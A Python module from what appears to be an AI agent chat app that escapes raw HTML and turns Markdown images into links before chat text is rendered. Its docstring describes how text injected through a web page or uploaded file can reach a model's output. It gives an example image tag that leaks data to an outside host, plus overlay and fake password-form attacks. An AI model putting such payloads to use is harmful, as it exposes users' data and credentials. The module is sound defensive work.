"""Chat text the browser may render: Markdown, but no raw HTML and no remote images from anyone's text.

Why: a model's thought, a final answer or a tool's result is written by whoever controls the model's
input (a web page it read, an uploaded file). Rendered as HTML, `<img src=http://host/?d=...>` is
fetched without a click, a `position:fixed` block covers the page and a `<form>` asks for a password.
Every `<` outside code blocks becomes `&lt;` (the app's own two class markers are the only tags kept; inside
inline code a look-alike), and Markdown images become links the person may choose to open. Code blocks,
found with a CommonMark parser as the renderer finds them, are left exactly as written: they show
literally. The page's Content-Security-Policy (`ui/web/security_headers.py`) is the second line: images,
media and form targets only from the app.
"""
from __future__ import annotations

import re

from agents.memory.inert_markdown import code_spans

# The only markup the app itself puts into chat text: the error marker and the (empty) marker of a step's
# preview (ui/chat/step_output.py), which the chat's CSS finds its message by. A class is all they carry.
_APP_TAGS = ('<span class="ad-error">', '<span class="ad-step-output">', "</span>")
_IMAGE = re.compile(r"!\[")
LOOKALIKE_LT = "\uff1c"  # "＜": shown for "<" inside inline code, where an entity would show literally
_parser = None


def _code_lines(text: str) -> set[int]:
    """Lines that a CommonMark renderer shows as code blocks (fenced or indented), found by a real parser:
    guessing with regular expressions disagreed with the renderer on indented closing fences, backticks in
    info strings and spans across blank lines, and what was taken for code rendered as HTML."""
    global _parser
    if _parser is None:
        from markdown_it import MarkdownIt

        _parser = MarkdownIt("commonmark")
    lines: set[int] = set()
    for token in _parser.parse(text):
        if token.type in ("fence", "code_block") and token.map:
            start, end = token.map
            if token.type == "fence":  # the opening and closing fence lines are markup, the rest is code
                lines.update(range(start + 1, end - 1))
            else:
                lines.update(range(start, end))
    return lines


def neutralize(text: str) -> str:
    """`text` with raw HTML shown as text and images turned into links; code blocks left untouched."""
    if "<" not in text and "![" not in text:
        return text
    code = _code_lines(text)
    lines = text.split("\n")
    return "\n".join(line if number in code else _neutralize_prose(line) for number, line in enumerate(lines))


def _neutralize_prose(line: str) -> str:
    """Every "<" of a prose line is made inert: an entity outside inline code, a look-alike inside it (a wrong
    guess about where inline code is can only change how a "<" looks, never let markup through)."""
    pieces: list[str] = []
    pos = 0
    for start, end in code_spans(line):  # one pass (agents/memory/inert_markdown.py)
        pieces.append(_escape(line[pos:start]))
        pieces.append(line[start:end].replace("<", LOOKALIKE_LT))
        pos = end
    pieces.append(_escape(line[pos:]))
    return "".join(pieces)


def _escape(segment: str) -> str:
    if "<" in segment:
        kept = segment
        for index, tag in enumerate(_APP_TAGS):
            kept = kept.replace(tag, f"\x00{index}\x00")
        kept = kept.replace("<", "&lt;")
        for index, tag in enumerate(_APP_TAGS):
            kept = kept.replace(f"\x00{index}\x00", tag)
        segment = kept
    return _IMAGE.sub("🖼 [", segment)
